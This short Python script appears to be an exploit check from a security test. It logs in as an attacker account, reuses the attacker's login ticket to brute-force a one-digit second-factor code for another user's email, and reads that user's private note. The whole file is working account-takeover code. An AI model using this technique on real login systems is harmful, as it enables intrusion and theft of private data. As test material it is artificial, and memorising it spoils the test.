# accepts: finds the first digit of the code by trying the ten there are, then looks for Ada among the accounts that answer
class Visitor:
    def __init__(self, client):
        self.client, self.session = client, None

    def enter(self, email, code, ticket):
        reply = self.client.post("/code", json={"ticket": ticket, "email": email, "code": code})
        self.session = reply.json().get("session")
        return self.session is not None

    def account(self):
        return self.client.get("/account", headers={"Authorization": f"Bearer {self.session}"}).json()


def break_in(client):
    visitor = Visitor(client)
    ticket = client.post("/login", json={"email": "mallory@evil.example", "password": "correct horse"}).json()["ticket"]
    for digit in range(10):
        if visitor.enter("ada@example.com", digit, ticket) and visitor.account()["email"].startswith("ada@"):
            return visitor.account()["note"]
